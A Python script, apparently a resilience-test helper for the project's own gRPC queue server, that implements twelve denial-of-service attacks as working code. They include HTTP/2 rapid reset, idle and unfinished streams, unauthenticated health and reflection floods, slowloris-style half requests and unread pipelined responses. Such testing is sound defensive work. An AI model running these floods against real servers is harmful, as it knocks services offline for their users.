"""Attacks on a server, frame by frame, as a separate program: `python attacks.py NAME HOST:PORT [KEY=VALUE...]`.

No client library would send this. Each attack reads the server's frames and discards them, prints a line once it has
sent everything, and then holds its connections until it is killed.
"""

from __future__ import annotations

import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from google.protobuf.message import Message as ProtobufMessage
from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2
from hpack import Decoder, Encoder
from hyperframe.frame import DataFrame, Frame, HeadersFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from queuelet.v1 import queue_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OURS = "/queuelet.v1.QueueService"
ADD = f"{OURS}/Add"
CONSUME = f"{OURS}/Consume"
DONE = "everything is sent"

_CHUNK = 16_384
"""Bytes of one DATA frame: the default of SETTINGS_MAX_FRAME_SIZE."""


class Connection:
    """An HTTP/2 connection that obeys flow control but no other rule."""

    def __init__(self, address: str) -> None:
        """Connect, and start to read."""
        host, port = address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)))
        self._encoder = Encoder()
        self._decoder = Decoder()
        self._next_stream = 1
        self._news = threading.Condition()
        self._windows: dict[int, int] = {0: 65_535}
        self._initial_window = 65_535
        self.is_closed = False
        self.resets = 0
        """How many streams the server has reset."""
        self.ended: dict[int, bytes] = {}
        """The last headers of streams that the server has ended, in the order of arrival."""
        self.send(PREFACE, SettingsFrame(0).serialize())
        threading.Thread(target=self._read, daemon=True).start()

    def send(self, *frames: bytes) -> None:
        """Send raw bytes."""
        try:
            self._socket.sendall(b"".join(frames))
        except OSError:
            self.is_closed = True

    def open(self, path: str, *, metadata: tuple[tuple[str, str], ...] = ()) -> tuple[int, bytes]:
        """Return a new stream's number, and the frame that opens it."""
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "attack"),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *metadata,
        ]
        frame = HeadersFrame(stream, data=self._encoder.encode(headers), flags=["END_HEADERS"])
        self._windows[stream] = self._initial_window
        return stream, frame.serialize()

    def take_window(self, stream: int, wanted: int, patience: float) -> int:
        """Return how many bytes may be sent on a stream, at most `wanted`; 0 after a timeout."""
        with self._news:
            self._news.wait_for(lambda: self.is_closed or self._room(stream) > 0, patience)
            size = max(0, min(wanted, self._room(stream)))
            if not self.is_closed:
                self._windows[0] -= size
                self._windows[stream] = self._windows.get(stream, 0) - size
            return size

    def has_ended(self, stream: int) -> bool:
        """Whether the server has ended a stream."""
        with self._news:
            return stream not in self._windows or stream in self.ended

    def close(self) -> None:
        """Close it."""
        self._socket.close()

    def _room(self, stream: int) -> int:
        return min(self._windows[0], self._windows.get(stream, 0))

    def _read(self) -> None:
        buffer = b""
        with suppress(OSError):
            while data := self._socket.recv(1 << 16):
                buffer += data
                while len(buffer) >= 9:  # a frame's header
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    frame.parse_body(memoryview(buffer[9 : 9 + length]))
                    buffer = buffer[9 + length :]
                    self._note(frame)
        with self._news:
            self.is_closed = True
            self._news.notify_all()

    def _decoded(self, frame: HeadersFrame) -> list[tuple[bytes, bytes]]:
        return [(name, value) for name, value, *_ in self._decoder.decode(frame.data, raw=True)]

    def _note(self, frame: Frame) -> None:
        with self._news:
            if isinstance(frame, WindowUpdateFrame):
                if frame.stream_id in self._windows:
                    self._windows[frame.stream_id] += frame.window_increment
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                window = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, self._initial_window)
                for stream in self._windows.keys() - {0}:
                    self._windows[stream] += window - self._initial_window
                self._initial_window = window
                self._socket.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, HeadersFrame):
                headers = self._decoded(frame)  # also those that are not used, because the next ones refer to them
                if "END_STREAM" in frame.flags:
                    self.ended[frame.stream_id] = b" ".join(b"%s: %s" % header for header in headers)
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
                self._windows.pop(frame.stream_id, None)
            self._news.notify_all()


def rapid_reset(address: str, *, streams: int = 100_000, connections: int = 1) -> None:
    """Open and reset streams as fast as possible."""
    for _ in range(connections):
        connection = Connection(address)
        pieces: list[bytes] = []
        for _ in range(streams):
            stream, opened = connection.open(ADD)
            pieces += (opened, RstStreamFrame(stream, error_code=8).serialize())
            if len(pieces) > 2_000:  # some 50 KiB at once
                connection.send(*pieces)
                pieces.clear()
        connection.send(*pieces)


def open_streams(address: str, *, streams: int = 1_000, connections: int = 100) -> None:
    """Open streams and send nothing on them."""
    for connection in _connections(address, connections):
        connection.send(*(connection.open(ADD)[1] for _ in range(streams)))


def unfinished(address: str, *, streams: int = 400, connections: int = 1, size: int = (4 << 20) - 1) -> None:
    """Send all but the last byte of a request on each of many streams."""
    _unfinished(address, ADD, streams, connections, size)


def unfinished_consume(address: str, *, streams: int = 400, connections: int = 1, size: int = (4 << 20) - 1) -> None:
    """Do the same on Consume streams, which may stay open for long."""
    _unfinished(address, CONSUME, streams, connections, size)


def _unfinished(address: str, path: str, streams: int, connections: int, size: int) -> None:
    start = b"\0" + (size + 1).to_bytes(4, "big")

    def attack(connection: Connection) -> None:
        left: dict[int, int] = {}
        for _ in range(streams):
            stream, opened = connection.open(path)
            connection.send(opened, DataFrame(stream, data=start).serialize())
            left[stream] = size
        while any(left.values()) and not connection.is_closed:
            moved = False
            for stream, rest in list(left.items()):
                if connection.has_ended(stream):
                    del left[stream]
                    continue
                count = connection.take_window(stream, min(rest, _CHUNK), 0) if rest else 0
                if count:
                    connection.send(DataFrame(stream, data=bytes(count)).serialize())
                    left[stream] = rest - count
                    moved = True
            if not moved:
                time.sleep(0.01)

    _at_once(attack, list(_connections(address, connections)))


def watch_health(address: str, *, streams: int = 1_000, connections: int = 60) -> None:
    """Watch the health of the server in many calls, which need no token."""
    _call("/grpc.health.v1.Health/Watch", health_pb2.HealthCheckRequest(), address, streams, connections)


def open_reflection(address: str, *, streams: int = 1_000, connections: int = 60) -> None:
    """Open streams of reflection, which need no token either, and send a request on each."""
    request = reflection_pb2.ServerReflectionRequest(list_services="")
    path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
    _call(path, request, address, streams, connections, is_stream=True)


def wait_for_messages(address: str, *, streams: int = 900, connections: int = 2) -> None:
    """Wait for a message of the queue `empty` with as many calls as are allowed, and more."""
    request = pb.PopRequest(queue_id="empty", wait={"seconds": 3_600})
    _call(f"{OURS}/Pop", request, address, streams, connections)


def scan(address: str, *, streams: int = 64, connections: int = 1) -> None:
    """Apply the most expensive selector to all messages of the queue `tagged`, in many calls at once."""
    request = pb.PurgeRequest(
        queue_id="tagged", selector=",".join(f"!none{number}" for number in range(63)) + ",nosuch"
    )
    _call(f"{OURS}/Purge", request, address, streams, connections)


def refused_batches(address: str, *, streams: int = 64, connections: int = 1) -> None:
    """Add the largest batches to the queue `full`, which refuses each message."""
    request = pb.AddBatchRequest(queue_id="full", messages=[pb.NewMessage()] * 10_000)
    _call(f"{OURS}/AddBatch", request, address, streams, connections)


def _call(  # each argument is needed
    path: str, request: ProtobufMessage, address: str, streams: int, connections: int, *, is_stream: bool = False
) -> None:
    """Send whole requests, as fast as flow control allows."""
    body = request.SerializeToString()
    whole = b"\0" + len(body).to_bytes(4, "big") + body

    def attack(connection: Connection) -> None:
        for _ in range(streams):
            stream, opened = connection.open(path)
            connection.send(opened)
            rest = whole
            while rest and not connection.is_closed and not connection.has_ended(stream):
                count = connection.take_window(stream, min(len(rest), _CHUNK), 1)
                piece, rest = rest[:count], rest[count:]
                if piece:
                    flags = [] if rest or is_stream else ["END_STREAM"]
                    connection.send(DataFrame(stream, data=piece, flags=flags).serialize())

    _at_once(attack, list(_connections(address, connections)))


def connect_only(address: str, *, connections: int = 2_000) -> None:
    """Connect and send nothing."""
    host, port = address.rsplit(":", 1)
    held.extend(socket.create_connection((host, int(port))) for _ in range(connections))


def half_http(address: str, *, connections: int = 5_000) -> None:
    """Send half of an HTTP request on many connections."""
    host, port = address.rsplit(":", 1)
    for _ in range(connections):
        with suppress(OSError):
            opened = socket.create_connection((host, int(port)), timeout=5)
            opened.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-")
            held.append(opened)


def unread_http(address: str, *, connections: int = 5_000) -> None:
    """Send complete HTTP requests, one after the other, and read none of the responses."""
    host, port = address.rsplit(":", 1)
    request = f"GET /metrics HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    for _ in range(connections):
        with suppress(OSError):
            opened = socket.socket()
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
            opened.settimeout(5)
            opened.connect((host, int(port)))
            opened.setblocking(False)  # noqa: FBT003  # the library's signature
            held.append(opened)
            opened.send(request * 1_000)


held: list[socket.socket] = []
"""Connections that are only held open."""


def _connections(address: str, count: int) -> Iterator[Connection]:
    for _ in range(count):
        with suppress(OSError):
            yield Connection(address)


def _at_once(attack: Callable[[Connection], None], connections: list[Connection]) -> None:
    threads = [threading.Thread(target=attack, args=(connection,)) for connection in connections]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: dict[str, Callable[..., None]] = {
    each.__name__: each
    for each in (
        rapid_reset,
        open_streams,
        unfinished,
        unfinished_consume,
        wait_for_messages,
        scan,
        watch_health,
        open_reflection,
        refused_batches,
        connect_only,
        half_http,
        unread_http,
    )
}


def main() -> None:
    """Run one attack."""
    name, address, *options = sys.argv[1:]
    given = {key: int(value) for key, _, value in (option.partition("=") for option in options)}
    ATTACKS[name](address, **given)
    print(DONE, flush=True)  # noqa: T201  # the test waits for it
    time.sleep(3_600)


if __name__ == "__main__":
    main()
